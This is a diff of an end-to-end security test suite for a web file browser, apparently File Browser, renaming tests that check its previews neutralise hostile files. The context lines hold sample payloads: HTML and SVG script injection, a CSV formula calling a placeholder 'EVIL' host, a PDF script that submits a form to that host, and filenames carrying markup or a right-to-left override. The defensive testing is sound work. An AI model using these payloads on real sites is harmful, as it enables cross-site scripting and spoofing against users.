@@ -98,7 +98,7 @@ test.describe('of hostile files (A5-8)', () => {
     },
   )
 
-  test('pictures in the preview and the listing are only pictures (GHSA-mmpx-jh39-wrv6)', async ({ page, served, complaints }) => {
+  test('images in the preview and the listing run no scripts (GHSA-mmpx-jh39-wrv6)', async ({ page, served, complaints }) => {
     complaints.foresee(/Failed to load resource|The policy forbade/)
     await withAttacker(page, async (attacker) => {
       for (const name of ['script.svg', 'foreign.svg', 'outside.svg', 'picture.gif', 'picture.jpg'])
@@ -116,7 +116,7 @@ test.describe('of hostile files (A5-8)', () => {
     })
   })
 
-  test('Markdown in the preview is text, links and our own images (GHSA-4wx8-5gm2-2j97, CVE-2025-52902, R15)', async ({
+  test('the Markdown preview renders only text, links and images of this instance (GHSA-4wx8-5gm2-2j97, CVE-2025-52902, R15)', async ({
     page,
     served,
     complaints,
@@ -143,7 +143,7 @@ test.describe('of hostile files (A5-8)', () => {
     })
   })
 
-  test('a table of comma-separated values holds text: no formula, no markup', async ({ page, served }) => {
+  test('the CSV preview renders text only, without formulas or markup', async ({ page, served }) => {
     await withAttacker(page, async (attacker) => {
       const cells = [`=HYPERLINK("EVIL/formula")`, `<img src=EVIL/cell onerror=alert(1)>`, `javascript:alert(1)`]
       await served.write('sums.csv', armed(`what\n${cells.map((cell) => `"${cell.replaceAll('"', '""')}"`).join('\n')}\n`, attacker))
@@ -154,7 +154,7 @@ test.describe('of hostile files (A5-8)', () => {
     })
   })
 
-  test('subtitles are words, whatever tags they hold', async ({ page, served }) => {
+  test('subtitles are rendered as text, including their tags', async ({ page, served }) => {
     await withAttacker(page, async (attacker) => {
       await served.write('film.webm', WEBM)
       const said = `<v onload=alert(1)><img src=EVIL/cue onerror=alert(1)><script>${SCRIPT}</script><b>Hello</b>`
@@ -181,7 +181,7 @@ test.describe('of hostile files (A5-8)', () => {
     })
   })
 
-  test('a PDF with JavaScript reaches neither the page nor anybody else', { tag: '@whole' }, async ({ page, served, complaints }) => {
+  test('JavaScript in a PDF reaches neither the page nor the network', { tag: '@whole' }, async ({ page, served, complaints }) => {
     complaints.foresee(/The policy forbade|Content Security Policy/)
     await withAttacker(page, async (attacker) => {
       await served.write('form.pdf', armed(pdfThatRuns(`app.alert(1);this.submitForm("EVIL/pdf");app.launchURL("EVIL/launch")`), attacker))
@@ -193,7 +193,7 @@ test.describe('of hostile files (A5-8)', () => {
     })
   })
 
-  test('books are words and their own pictures: no script, nothing from elsewhere, no bomb (GHSA-5vpr-4fgw-f69h, R15)', async ({
+  test('books render only text and their own images: no scripts, no remote content, no decompression bombs (GHSA-5vpr-4fgw-f69h, R15)', async ({
     page,
     served,
     complaints,
@@ -240,7 +240,7 @@ test.describe('of hostile files (A5-8)', () => {
     })
   })
 
-  test('an unknown file opened as text is text', async ({ page, served }) => {
+  test('an unknown file opened as text is rendered as text', async ({ page, served }) => {
     await withAttacker(page, async (attacker) => {
       await served.write('x.bin', Buffer.concat([Buffer.from([0xe9, 0xe8]), Buffer.from(armed(PAGES['page.html'] ?? '', attacker))]))
       await signIn(page, served, '/files/x.bin')
@@ -251,7 +251,7 @@ test.describe('of hostile files (A5-8)', () => {
     })
   })
 
-  test('names of markup, or that turn the line around, are only names in the preview (A4-12)', async ({ page, served }) => {
+  test('names with markup or bidirectional control characters are shown as text in the preview (A4-12)', async ({ page, served }) => {
     await withAttacker(page, async (attacker) => {
       await served.write('<img src=x onerror=alert(1)>.png', PNG)
       await served.write('photo\u202Egnp.png', PNG)
